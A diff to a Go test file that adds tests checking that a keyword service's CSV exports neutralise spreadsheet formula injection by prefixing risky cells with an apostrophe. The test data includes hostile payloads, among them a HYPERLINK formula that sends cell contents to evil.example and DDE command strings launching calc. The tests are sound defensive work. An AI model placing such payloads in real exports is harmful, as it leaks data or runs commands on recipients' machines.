@@ -3,10 +3,16 @@ package serve
 import (
 	"bytes"
 	"encoding/csv"
+	"encoding/json"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
+
+	"github.com/kwdata/kwdata/kw"
 )
 
 func TestWantsCSV(t *testing.T) {
@@ -135,4 +141,98 @@ func FuzzWantsCSV(f *testing.F) {
 			t.Fatalf("format=csv in %q not honoured", query)
 		}
 	})
+}
+
+// TestCSVFormulaInjection: keywords come from ingested files, so a cell
+// may begin like a formula. Every CSV answer (bulk, keyword, intent group)
+// writes such a text cell behind an apostrophe, so that a spreadsheet
+// shows it as text instead of running it; numbers stay numbers.
+func TestCSVFormulaInjection(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+		`+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		`-1 squared`,
+	}
+	ts := newTestServer(t)
+	var keywords []string
+	for _, raw := range hostile {
+		k, err := kw.NormalizeKeyword(raw)
+		if err != nil {
+			t.Fatalf("NormalizeKeyword(%q): %v", raw, err)
+		}
+		keywords = append(keywords, k)
+		// The intent and the volume range come from the file too; tab and
+		// carriage return are the other beginnings a spreadsheet reads as
+		// a formula.
+		ts.index.add(kw.Entry{Keyword: k, Country: "US", Volume: i64(10), Intent: k, VolumeRange: "\t=1+1",
+			YoYChange: f64(-50), ThreeMonthChange: f64(-12.5)})
+	}
+	ts.index.add(kw.Entry{Keyword: "carriage", Country: "US", Volume: i64(10), Intent: "carriage", VolumeRange: "\r=1+1"})
+	keywords = append(keywords, "carriage")
+
+	body, _ := json.Marshal(map[string]any{"country": "us", "keywords": append(slices.Clone(hostile), "carriage")})
+	r := httptest.NewRequest("POST", "/v1/keywords", bytes.NewReader(body))
+	r.Header.Set("Content-Type", "application/json")
+	r.Header.Set("Accept", "text/csv")
+	w := httptest.NewRecorder()
+	ts.ServeHTTP(w, r)
+	answers := map[string]*httptest.ResponseRecorder{"POST /v1/keywords": w}
+	for _, k := range keywords {
+		q := url.QueryEscape(k)
+		answers["GET /v1/keyword "+k] = do(t, ts, "GET", "/v1/keyword?format=csv&country=us&q="+q, nil)
+		answers["GET /v1/intent "+k] = do(t, ts, "GET", "/v1/intent?format=csv&country=us&q="+q, nil)
+	}
+	// numeric are the columns that hold numbers, by header.
+	numeric := map[string]bool{"status": true, "volume": true, "cpc": true, "competition": true, "yoy": true, "three_month": true}
+	for name, w := range answers {
+		if w.Code != 200 {
+			t.Errorf("%s: status %d: %s", name, w.Code, w.Body)
+			continue
+		}
+		rows := readCSV(t, w)
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if numeric[rows[0][i]] {
+					if cell != "" && cell != "inf" {
+						if _, err := strconv.ParseFloat(cell, 64); err != nil {
+							t.Errorf("%s: %s cell %q is not a number", name, rows[0][i], cell)
+						}
+					}
+					continue
+				}
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: %s cell %q would run as a formula", name, rows[0][i], cell)
+				}
+			}
+		}
+		if name == "POST /v1/keywords" {
+			if len(rows) != 1+len(hostile)+1 || rows[1][0] != "'"+hostile[0] || rows[1][2] != "'"+keywords[0] ||
+				rows[4][2] != "'-1 squared" || rows[1][5] != "'\t=1+1" || rows[1][8] != "-50" || !strings.HasPrefix(rows[5][5], "'") {
+				t.Errorf("bulk CSV %q", rows)
+			}
+		}
+	}
+}
+
+// TestCSVText: the rule of a text cell, alone.
+func TestCSVText(t *testing.T) {
+	for in, want := range map[string]string{
+		"":              "",
+		"running shoes": "running shoes",
+		"=1+1":          "'=1+1",
+		"+1":            "'+1",
+		"-1 squared":    "'-1 squared",
+		"@sum(a1)":      "'@sum(a1)",
+		"\t=1":          "'\t=1",
+		"\r=1":          "'\r=1",
+		"a=1":           "a=1",
+		"'quoted":       "'quoted",
+		"1K – 10K":      "1K – 10K",
+		" =not first":   " =not first",
+	} {
+		if got := csvText(in); got != want {
+			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
+		}
+	}
 }
